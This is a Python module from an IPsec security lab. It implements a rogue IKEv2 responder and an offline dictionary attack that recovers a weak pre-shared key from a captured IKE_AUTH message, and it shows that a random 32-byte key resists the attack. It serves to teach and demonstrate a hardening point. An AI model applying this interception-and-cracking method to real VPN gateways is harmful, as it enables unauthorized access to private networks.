"""weak-psk: a rogue responder and an offline dictionary attack on the pre-shared key.

With PSK authentication the initiator proves it knows the key by sending
AUTH = prf(prf(PSK, "Key Pad for IKEv2"), <InitiatorSignedOctets>) (RFC 7296 §2.15), where
the signed octets are its IKE_SA_INIT message, the responder's nonce and prf(SK_pi, IDi).
Whoever completes IKE_SA_INIT with the initiator holds SK_ei and SK_pi, so it can open the
IKE_AUTH request and has everything but the PSK: each guess costs two PRF calls, offline,
with no further message to anyone. RFC 7296 §2.15 says it plainly: a PSK derived from a
password is open to this, and a PSK should be as random as a strong key. Felsch, Grothe,
Schwenk, Czubak and Szymanek ("The Dangers of Key Reuse: Practical Attacks on IPsec IKE",
USENIX Security 2018) show the same offline attack on IKEv1 and IKEv2 PSK modes.

The attacker is mallory, on the path between gw1 and gw2: a rogue responder
(:mod:`ipseclab.attacks.rogue_responder`) answers for gw2's address inside mallory's own
namespace. gw1 starts IKE (h1 sends to h2, ``start_action = trap``), mallory answers
IKE_SA_INIT, receives IKE_AUTH and then searches ``topologies/attacks/weak-psk/wordlist.txt``
(a generated lab list of ordinary words, no leaked list). The weak configuration's PSK is in
it; the recommended one is 32 random octets (certificates would do as well) and the search
finds nothing. The attack targets only the lab's own hosts.
"""

from __future__ import annotations

import math
import time
from collections.abc import Iterable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from ipseclab.attacks.common import ATTACKS_DIR, AttackResult, NodeTool, check_config, send_udp
from ipseclab.attacks.ike_common import SaInit, ike_lab, open_sk
from ipseclab.crypto import kdf
from ipseclab.crypto.prf import PrfAlgorithm
from ipseclab.ike.payloads import Authentication, IDi

NAME = "weak-psk"
WEAK = "weak"  # topologies/attacks/weak-psk/weak: PSK "winter2024"
RECOMMENDED = "recommended"  # a 32-byte random PSK
WORDLIST = ATTACKS_DIR / NAME / "wordlist.txt"
ROGUE = ATTACKS_DIR / NAME / "rogue.swanctl.conf"
GW2 = "198.51.100.2"
PAD = b"Key Pad for IKEv2"  # RFC 7296 §2.15
REAL_LIST = 14_000_000  # entries of a large real-world password list, for the extrapolation


@dataclass
class Target:
    """What one IKE_AUTH request gives the offline search: the AUTH value and its octets."""

    prf: PrfAlgorithm
    signed_octets: bytes  # IKE_SA_INIT request | Nr | prf(SK_pi, IDi body)
    auth: bytes
    identity: bytes


def target(init: SaInit, keys: kdf.IkeKeys, auth_request: bytes) -> Target:
    """Open the IKE_AUTH request with SK_ei and compute InitiatorSignedOctets (§2.15)."""
    _, inner = open_sk(auth_request, init, keys)
    idi = next(p for p in inner if isinstance(p, IDi))
    auth = next(p for p in inner if isinstance(p, Authentication))
    id_body = idi.id_type.to_bytes(1, "big") + bytes(3) + idi.data
    prf = init.suite.prf
    octets = init.request + init.nr + prf.prf(keys.SK_pi, id_body)
    return Target(prf, octets, auth.data, idi.data)


def search(goal: Target, words: Iterable[str]) -> tuple[str | None, int, float]:
    """The word whose AUTH matches (or None), how many were tried, and the seconds taken."""
    start = time.perf_counter()
    tried = 0
    for word in words:
        tried += 1
        key = goal.prf.prf(word.encode(), PAD)
        if goal.prf.prf(key, goal.signed_octets) == goal.auth:
            return word, tried, time.perf_counter() - start
    return None, tried, time.perf_counter() - start


def load_words(path: Path = WORDLIST) -> list[str]:
    return [w for w in path.read_text().splitlines() if w and not w.startswith("#")]


def run(lab: Any = None, config: str = WEAK, workdir: Path | None = None,
        wordlist: Path | None = None) -> AttackResult:
    """gw1 initiates towards gw2's address; mallory's rogue responder takes the call."""
    check_config(config)
    if lab is None:
        with ike_lab(NAME, config, workdir) as fresh:
            return _attack(fresh, config, wordlist)
    return _attack(lab, config, wordlist)


def _attack(lab: Any, config: str, wordlist: Path | None) -> AttackResult:
    rogue = NodeTool(lab, "mallory", "rogue_responder", str(ROGUE), GW2, "8", timeout=12)
    try:
        send_udp(lab, "h1", "h2", 9004, [b"hello h2"])
        got = rogue.result()
    finally:
        rogue.stop()
    details: dict[str, Any] = {"rogue_events": got.get("events", [])}
    if "auth_request" not in got:
        return AttackResult(NAME, config, False, "gw1 sent no IKE_AUTH to the rogue responder",
                            details=details)
    init = SaInit.from_messages([bytes.fromhex(got["init_request"]),
                                 bytes.fromhex(got["init_response"])])
    assert init is not None
    keys = kdf.IkeKeys(**{k: bytes.fromhex(v) for k, v in got["keys"].items()})
    goal = target(init, keys, bytes.fromhex(got["auth_request"]))
    words = load_words(wordlist or WORDLIST)
    found, tried, seconds = search(goal, words)
    # the rate over the whole list (a hit may come after a handful of words)
    _, everything, full = search(Target(goal.prf, goal.signed_octets, b"", b""), words)
    rate = everything / full if full > 0 else float("inf")
    details.update({"psk": found, "tried": tried, "seconds": round(seconds, 4),
                    "guesses_per_second": round(rate), "identity": goal.identity.decode(),
                    "auth": goal.auth.hex()})
    real = REAL_LIST / rate
    random_years = 2 ** 255 / rate / (365.25 * 86400)
    scale = (f"{rate:,.0f} guesses/s on one core in Python: a {REAL_LIST:,}-word list takes"
             f" {real:,.0f} s here (far less on a GPU); a 32-byte random PSK needs ~2^255"
             f" guesses, about 10^{math.log10(random_years):.0f} years")
    if found is not None:
        evidence = (f"gw1 ({goal.identity.decode()}) completed IKE_SA_INIT with mallory's rogue"
                    f" responder and sent IKE_AUTH; mallory opened it with SK_ei and found the"
                    f" PSK {found!r} after {tried} of {len(words)} words in {seconds:.3f} s. "
                    + scale)
    else:
        evidence = (f"mallory got gw1's IKE_AUTH (AUTH {goal.auth.hex()[:16]}...) but none of"
                    f" the {tried} words gives that AUTH: the PSK is not in the list"
                    f" (the rogue answered AUTHENTICATION_FAILED). " + scale)
    return AttackResult(NAME, config, found is not None, evidence, details=details)
